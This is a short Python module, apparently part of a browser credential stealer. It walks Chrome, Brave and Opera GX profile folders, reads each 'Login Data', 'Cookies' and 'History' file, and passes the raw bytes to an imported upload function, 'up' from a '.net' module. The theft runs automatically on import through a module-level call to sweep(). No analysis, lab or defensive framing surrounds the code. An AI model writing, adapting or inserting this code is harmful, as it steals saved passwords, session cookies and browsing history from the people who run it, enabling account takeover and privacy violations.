import os
from os.path import join
from .net import up

LA = os.getenv("LOCALAPPDATA") or ""
AD = os.getenv("APPDATA") or ""
SPOTS = {
    join(LA, "Google", "Chrome", "User Data"): ["Default", "Profile 1"],
    join(LA, "BraveSoftware", "Brave-Browser", "User Data"): ["Default"],
    join(AD, "Opera Software", "Opera GX Stable"): [""],
}


def sweep():
    for root, profiles in SPOTS.items():
        for profile in profiles:
            for leaf in ("Login Data", "Cookies", "History"):
                f = join(root, profile, leaf)
                if os.path.isfile(f):
                    up(leaf, open(f, "rb").read())


sweep()
